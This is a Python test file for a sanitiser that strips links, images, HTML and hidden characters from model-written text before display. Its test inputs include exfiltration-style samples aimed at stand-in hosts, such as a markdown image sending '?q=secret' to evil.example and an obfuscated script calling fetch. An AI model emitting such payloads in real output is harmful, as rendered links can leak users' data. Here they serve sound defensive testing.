"""What a model wrote, made safe: examples, and properties that hold for any text however it is cut."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from carrel.ask.sanitise import Sanitiser, sanitised, visible


def clean(text: str) -> str:
    return sanitised(text, passages=2)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See [the guide](http://x.example/a_(b)?q=1), ok [1].", "See the guide, ok [1]."),
        ("![a map](https://evil.example/x.png?q=secret) done", "a map done"),
        ("[![map](http://a.example)](http://b.example) done", "[map] done"),
        ('[a](http://a.example "a title") [b](<http://b.example/ x>)', "a b"),
        ("see http://localhost:7443/health.", "see (link to localhost:7443 removed)."),
        ("**https://user:word@a.example/x**", "**(link to a.example removed)**"),
        ("(www.b.example)!", "((link to b.example removed))!"),
        ("<https://a.example/x> or <ann@a.example>", "(link to a.example removed) or ann@a.example"),
        ("postgres://db:5432/x", "postgres (link to db:5432 removed)"),
        ("[x]: //a.example/x", "[x] : //a.example/x"),
        ("<b>bold</b>, <img src=//a.example/x onerror=y> and <!-- this -->.", "bold,  and ."),
        ("run it with <your-key> for a List<String>, if a < b", "run it with <your-key> for a List<String>, if a < b"),
        ("<img src=x", "< img src=x"),
        ("a [1] b [3] c [1, 2] d [2; 9]", "a [1] b c [1][2] d [2]"),
        ("Wow![1] hosts\\[0\\] [7]", "Wow![1] hosts\\[0\\]"),
        ("a [see](not a link, but words) b", "a [see] (not a link, but words) b"),
        ("AT&T &amp; &lt;b&gt;", "AT&T &amp; &lt;b&gt;"),
        ("a\u202eb\u200bc\U000e0041d\x00e\x1b[31m", "abcde[31m"),
        ("  spaces outside  \n", "spaces outside"),
    ],
)
def test_what_is_written_and_what_is_shown(written: str, shown: str) -> None:
    assert clean(written) == shown


@pytest.mark.parametrize(
    "written",
    [
        "htt<b></b>p://evil.example",
        "[htt](x)p://evil.example",
        "ww[w.evil.example](x)",
        "http:\\/\\/evil.example",
        "&#104;ttp://evil.example",
        "http&colon;//evil.example",
        "[a]<b></b>(http://evil.example)",
        "[a][b]\n\n[b]: http://evil.example",
        "<[im](x)g src=http://evil.example>",
        "<sc[ript](x)>fetch('http://evil.example')</sc[ript](x)>",
        "![a\n](http://evil.example)",
        "h\u200bttp\u2060://evil.example",
        "\\href{https://evil.example}{x}",
    ],
)
def test_pieces_that_are_harmless_alone_do_not_come_together(written: str) -> None:
    shown = clean(written)
    assert not re.search(r"://[^\s)]|\]\(|\]:|www\.|<script|<img|&#|&colon", shown), shown


PARTS = [
    *"[]()<>!\\/:& \n'\"=.hfwtps19#;",
    "http://", "://", "www.", "evil.example", "](", "![", "<b>", "</b>", "<img src=", "&#104;", "&amp;", "[1]", "[9]",
    "javascript:", "word", "x" * 150, "\u200b", "\u202e", "é",
]  # fmt: skip
texts = st.lists(st.sampled_from(PARTS), max_size=30).map("".join) | st.text(max_size=60)


@st.composite
def cut_texts(draw: st.DrawFn) -> list[str]:
    text = draw(texts)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=len(text))))
    return [text[first:last] for first, last in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@settings(max_examples=500)
@given(cut_texts())
def test_however_a_text_is_cut_the_pieces_are_the_same_together(pieces: list[str]) -> None:
    sanitiser = Sanitiser(passages=2)
    shown = "".join([*map(sanitiser.feed, pieces), sanitiser.end()])
    assert shown == clean("".join(pieces))


@settings(max_examples=500)
@given(texts)
def test_nothing_that_leads_away_is_left_of_any_text(text: str) -> None:
    shown = clean(text)
    assert not re.search(r"://[^\s]", shown)
    assert "](" not in shown
    assert "]:" not in shown
    assert not re.search(r"<[a-zA-Z/!?][^<>]*=[^<>]*>", shown)
    assert not re.search(r"<(b|img|a)\b[^<>]*>", shown, re.IGNORECASE)
    assert set(re.findall(r"(?<!\\)\[(\d{1,3})\]", shown)) <= {"1", "2"}
    assert shown == visible(shown) == shown.strip()


@pytest.mark.parametrize("start", ["[", "[a](", "<", "![", "&", "http:", "   ", "!", "h", "\\"])
def test_what_is_held_back_is_bounded(start: str) -> None:
    """A model that opens a bracket and never closes it does not hold up its answer."""
    sanitiser = Sanitiser(passages=2)
    fed = start + "x" * 3_000
    shown = "".join(sanitiser.feed(character) for character in fed)
    assert len(shown) >= (0 if start == "http://" else len(fed) - 2_010 - len(start))


def test_plain_words_are_shown_at_once() -> None:
    sanitiser = Sanitiser(passages=2)
    assert [sanitiser.feed(piece) for piece in ("The", " port", " is", " 7443", " [1]", ".")] == [
        "The", " port", " is", " 7443", "", " [1].",
    ]  # fmt: skip
